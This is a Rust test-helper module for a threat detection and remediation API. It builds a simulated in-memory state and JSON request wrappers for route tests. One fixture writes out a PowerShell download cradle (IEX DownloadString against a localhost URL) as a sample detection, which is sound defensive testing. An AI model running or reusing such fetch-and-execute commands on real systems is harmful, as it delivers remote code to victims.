//! Shared test helpers for the sx-api crate.
//!
//! Builds a fully in-memory application state (real store, queue, and
//! executor over simulated primitives) and small oneshot request
//! wrappers used by the per-route test modules.

use std::collections::HashMap;
use std::sync::Arc;

use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use axum::Router;
use tower::ServiceExt;
use uuid::Uuid;

use sx_actions::{
    AccountControl, FileQuarantine, HostIsolation, NetworkControl, PersistenceControl,
    PlanExecutor, ProcessControl, RemediationRegistry, SimulatedPlatform,
};
use sx_core::{
    Action, ActionCommand, AlertRecord, CandidatePlan, Case, CaseStatus, GateVerdict, PlanSigner,
    Severity, ThreatEvent, ThreatKind,
};
use sx_observability::AuditTrail;
use sx_sentry::SignatureTable;

use crate::state::AppState;

/// Builds a router over a fresh in-memory state.
///
/// Every remediation primitive is the simulated platform, so approved
/// plans execute successfully without touching the host.
pub fn test_router() -> (Router, AppState) {
    let store = Arc::new(sx_core::CaseStore::new());
    let queue = Arc::new(sx_core::ThreatQueue::default());
    let audit = Arc::new(AuditTrail::new());

    let sim = Arc::new(SimulatedPlatform);
    let registry = Arc::new(RemediationRegistry::standard(
        Arc::clone(&sim) as Arc<dyn ProcessControl>,
        Arc::clone(&sim) as Arc<dyn FileQuarantine>,
        Arc::clone(&sim) as Arc<dyn PersistenceControl>,
        Arc::clone(&sim) as Arc<dyn NetworkControl>,
        Arc::clone(&sim) as Arc<dyn HostIsolation>,
        sim as Arc<dyn AccountControl>,
    ));
    // 1024-bit keys keep the test suite fast.
    let signer = Arc::new(PlanSigner::generate_with_bits(1024).unwrap());
    let executor = Arc::new(
        PlanExecutor::new(Arc::clone(&store), registry, signer).with_audit(Arc::clone(&audit)),
    );

    let state = AppState::new(
        store,
        queue,
        Arc::new(SignatureTable::default_table()),
        executor,
        audit,
    );
    (crate::router(state.clone()), state)
}

/// A detection for the canonical powershell download cradle.
pub fn cradle_event(pid: u32) -> ThreatEvent {
    ThreatEvent::new(
        pid,
        "powershell.exe",
        "powershell.exe -NoP IEX DownloadString('http://127.0.0.1/nonexistent-malware.ps1')",
        "ps-download-cradle",
        ThreatKind::FilelessAttack,
    )
}

/// Inserts a case that has passed the gate and is awaiting a decision.
pub async fn awaiting_case(state: &AppState, pid: u32) -> Uuid {
    let mut case = Case::open(AlertRecord::new("ws-01", cradle_event(pid)));
    case.plan = Some(CandidatePlan {
        plan_id: format!("plan-{}", pid),
        case_id: case.id.to_string(),
        generated_by: "test".to_string(),
        threat_type: ThreatKind::FilelessAttack,
        severity: Severity::Critical,
        confidence: 0.9,
        actions: vec![Action {
            id: "a1".to_string(),
            command: ActionCommand::KillProcess,
            params: HashMap::from([("pid".to_string(), serde_json::json!(pid))]),
            priority: 10,
        }],
    });
    case.verdict = Some(GateVerdict {
        schema_valid: true,
        policy_compliant: true,
        policy_message: "PASSED".to_string(),
        schema_violations: vec![],
    });
    case.transition(CaseStatus::Analyzing, None).unwrap();
    case.transition(CaseStatus::AwaitingApproval, None).unwrap();
    state.store.insert(case).await
}

/// Sends a GET and parses the JSON response body.
pub async fn get_json(router: Router, uri: &str) -> (StatusCode, serde_json::Value) {
    let response = router
        .oneshot(Request::builder().uri(uri).body(Body::empty()).unwrap())
        .await
        .unwrap();
    let status = response.status();
    let bytes = axum::body::to_bytes(response.into_body(), usize::MAX)
        .await
        .unwrap();
    (status, serde_json::from_slice(&bytes).unwrap())
}

/// Sends a POST with a JSON body and parses the JSON response body.
pub async fn post_json(
    router: Router,
    uri: &str,
    body: serde_json::Value,
) -> (StatusCode, serde_json::Value) {
    let response = router
        .oneshot(
            Request::builder()
                .method("POST")
                .uri(uri)
                .header(header::CONTENT_TYPE, "application/json")
                .body(Body::from(body.to_string()))
                .unwrap(),
        )
        .await
        .unwrap();
    let status = response.status();
    let bytes = axum::body::to_bytes(response.into_body(), usize::MAX)
        .await
        .unwrap();
    (status, serde_json::from_slice(&bytes).unwrap())
}
